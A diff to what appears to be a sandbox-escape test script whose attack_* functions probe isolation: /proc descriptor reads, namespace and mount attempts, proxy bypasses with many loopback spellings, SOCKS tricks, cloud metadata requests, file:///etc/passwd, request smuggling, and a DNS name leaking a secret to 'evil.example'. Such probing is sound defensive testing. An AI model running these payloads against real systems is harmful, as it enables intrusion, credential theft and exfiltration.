@@ -77,6 +77,14 @@ def attack_roots(mark):
         attempt(cwd, read, cwd + '/../' + os.path.basename(mark))
 
 
+def attack_descriptors(name):
+    """A process that serves the view holds the workspace open; is it below some descriptor?"""
+    found = glob.glob('/proc/[0-9]*/fd/*') + glob.glob('/proc/[0-9]*/task/*/cwd')
+    for directory in found:
+        attempt(directory, read, directory + '/' + name)
+    print(f'descriptors: {len(found)}')
+
+
 def attack_find(name):
     """Is there any file of that name, or any socket?"""
     for directory, directories, files in os.walk('/'):
@@ -93,23 +101,25 @@ def attack_find(name):
 
 
 def attack_mount():
-    def new_namespace(flags):
+    def new_namespace(flags, mount=False):
         pid = os.fork()
         if pid == 0:
             try:
                 checked(libc.unshare(flags))
-                checked(libc.mount(b'none', b'/tmp', b'tmpfs', 0, None))
+                if mount:
+                    checked(libc.mount(b'none', b'/tmp', b'tmpfs', 0, None))
                 os._exit(0)
             except OSError as error:
                 os._exit(error.errno)
         code = os.waitstatus_to_exitcode(os.waitpid(pid, 0)[1])
         if code:
             raise OSError(code, '')
-        return 'a mount'
+        return 'a mount' if mount else 'a namespace'
 
     attempt('mount', lambda: checked(libc.mount(b'none', b'/tmp', b'tmpfs', 0, None)))
     attempt('remount', lambda: checked(libc.mount(b'none', b'/usr', None, 32 | 4096, None)))
     attempt('unshare', new_namespace, NEWUSER | NEWNS)
+    attempt('unshare and mount', new_namespace, NEWUSER | NEWNS, True)
     attempt('clone', lambda: system_call(56, NEWUSER | 17, 0, 0, 0, 0) or os._exit(0))
 
 
@@ -137,6 +147,96 @@ def attack_connect(port, abstract, *paths):
     attempt('abstract', connect, socket.AF_UNIX, b'\0' + abstract.encode())
     for path in paths:
         attempt(path, connect, socket.AF_UNIX, path)
+
+
+PROXY = ('127.0.0.1', 3128)
+SPELLINGS = ('127.0.0.1', 'localhost', 'LOCALHOST.', '[::1]', '[::ffff:127.0.0.1]', '[::ffff:7f00:1]', '[::127.0.0.1]', '[64:ff9b::7f00:1]', '[2002:7f00:1::1]',
+             '2130706433', '0x7f000001', '0177.0.0.1', '127.1', '0.0.0.0', '[::]', '127.0.0.1.', 'allowed.example@127.0.0.1', '127.0.0.1#@allowed.example')
+
+
+def exchanged(data, then=b''):
+    """What the proxy says to @data, and after a "200" what comes to @then. Without the server's mark it is an error."""
+    with socket.create_connection(PROXY, 10) as s:
+        s.sendall(data)
+        answer = s.recv(65536)
+        if then and answer[:12] == b'HTTP/1.1 200' or then and answer[:2] == b'\5\0':
+            s.sendall(then)
+            answer = b''
+        while True:
+            more = s.recv(65536)
+            if not more:
+                break
+            answer += more
+    if b'MARK' not in answer:
+        raise OSError(errno.EACCES if b'403' in answer[:20] or b'400' in answer[:20] else errno.ECONNREFUSED, '')
+    return 'the mark'
+
+
+def socks(port, kind, address, then):
+    with socket.create_connection(PROXY, 10) as s:
+        s.sendall(b'\5\1\0')
+        s.recv(2)
+        s.sendall(b'\5\1\0' + bytes([kind]) + address + int(port).to_bytes(2, 'big'))
+        reply = s.recv(10)
+        if reply[1]:
+            raise OSError(errno.EACCES if reply[1] == 2 else errno.ECONNREFUSED, '')
+        s.sendall(then)
+        answer = b''
+        while more := s.recv(65536):
+            answer += more
+        if b'MARK' not in answer:
+            raise OSError(errno.ECONNREFUSED, '')
+        return 'the mark'
+
+
+def attack_proxy(port):
+    """The host's loopback by all spellings of its address, through the proxy."""
+    def get(host):
+        return f'GET / HTTP/1.1\r\nHost: {host}:{port}\r\nConnection: close\r\n\r\n'.encode()
+
+    for host in SPELLINGS:
+        attempt(f'http {host}', exchanged, f'GET http://{host}:{port}/ HTTP/1.1\r\nHost: {host}:{port}\r\n\r\n'.encode())
+        attempt(f'connect {host}', exchanged, f'CONNECT {host}:{port} HTTP/1.1\r\n\r\n'.encode(), get(host))
+    attempt('socks ipv4', socks, port, 1, bytes([127, 0, 0, 1]), get('x'))
+    attempt('socks ipv6', socks, port, 4, bytes(15) + b'\1', get('x'))
+    attempt('socks mapped', socks, port, 4, bytes(10) + b'\xff\xff\x7f\0\0\1', get('x'))
+    for host in ('127.0.0.1', 'localhost', '2130706433'):
+        attempt(f'socks {host}', socks, port, 3, bytes([len(host)]) + host.encode(), get('x'))
+    for what, request in {
+            'another Host': f'GET http://localhost:{port}/ HTTP/1.1\r\nHost: evil.example\r\n\r\n',
+            'two Hosts': f'GET http://localhost:{port}/ HTTP/1.1\r\nHost: localhost:{port}\r\nHost: evil.example\r\n\r\n',
+            'metadata': 'GET http://169.254.169.254/latest/ HTTP/1.1\r\nHost: 169.254.169.254\r\n\r\n',
+            'metadata in IPv6': 'CONNECT [fd00:ec2::254]:80 HTTP/1.1\r\n\r\n',
+            'port 22': 'CONNECT localhost:22 HTTP/1.1\r\n\r\n',
+            'raw address': 'CONNECT 93.184.216.34:443 HTTP/1.1\r\n\r\n',
+            'a name that tells': 'CONNECT the-secret-is-hunter2.evil.example:443 HTTP/1.1\r\n\r\n',
+            'itself': f'CONNECT 127.0.0.1:{PROXY[1]} HTTP/1.1\r\n\r\n',
+            'a file': 'GET file:///etc/passwd HTTP/1.1\r\nHost: x\r\n\r\n',
+            'old SOCKS': '\4\1\0\x50\x7f\0\0\1\0',
+            'two requests': f'GET http://localhost:{port}/ HTTP/1.1\r\nHost: localhost:{port}\r\nContent-Length: 4\r\nTransfer-Encoding: chunked\r\n\r\n0\r\n\r\n',
+    }.items():
+        attempt(what, exchanged, request.encode())
+
+
+def attack_beside_the_proxy(port, address):
+    """Straight to the host, to its network and to name servers."""
+    def connect(family, kind, where):
+        with socket.socket(family, kind) as s:
+            s.settimeout(3)
+            s.connect(where)
+            s.sendall(b'x')
+            if kind == socket.SOCK_DGRAM:
+                s.recv(100)
+        return 'a connection'
+
+    attempt('loopback', connect, socket.AF_INET, socket.SOCK_STREAM, ('127.0.0.1', int(port)))
+    attempt('address', connect, socket.AF_INET, socket.SOCK_STREAM, (address, int(port)))
+    attempt('internet', connect, socket.AF_INET, socket.SOCK_STREAM, ('93.184.216.34', 80))
+    attempt('metadata', connect, socket.AF_INET, socket.SOCK_STREAM, ('169.254.169.254', 80))
+    for server in {line.split()[1] for line in open('/etc/resolv.conf') if line.startswith('nameserver')} | {'8.8.8.8', '127.0.0.53'}:
+        attempt(f'name server {server}', connect, socket.AF_INET6 if ':' in server else socket.AF_INET, socket.SOCK_DGRAM, (server, 53))
+    attempt('a name', socket.getaddrinfo, 'the-secret-is-hunter2.example.com', 80)
+    attempt('name servers', lambda: open('/etc/resolv.conf').read() or checked(-1))
 
 
 def attack_calls():
